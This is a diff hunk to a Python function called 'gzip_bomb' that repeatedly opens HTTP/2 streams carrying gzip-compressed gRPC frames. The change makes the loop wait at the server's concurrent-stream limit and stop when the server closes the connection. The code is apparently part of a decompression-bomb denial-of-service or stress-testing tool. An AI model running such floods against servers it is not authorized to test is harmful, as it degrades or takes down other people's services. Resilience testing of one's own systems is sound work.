@@ -143,6 +143,14 @@ def gzip_bomb(args):
     sent = 0
     end = time.monotonic() + args.seconds
     while time.monotonic() < end:
+        # At the server's stream limit (a loaded server answers slowly), wait for answers rather
+        # than open a stream the protocol forbids.
+        while (conn.h2.open_outbound_streams >= conn.h2.remote_settings.max_concurrent_streams
+               and time.monotonic() < end):
+            if not conn.pump(timeout=0.05):
+                end = 0  # the server closed the connection
+        if time.monotonic() >= end:
+            break
         sid = conn.h2.get_next_available_stream_id()
         conn.h2.send_headers(sid, conn.headers([("grpc-encoding", "gzip")]))
         if not conn.send_body(sid, grpc_frame(message, compressed=True)):
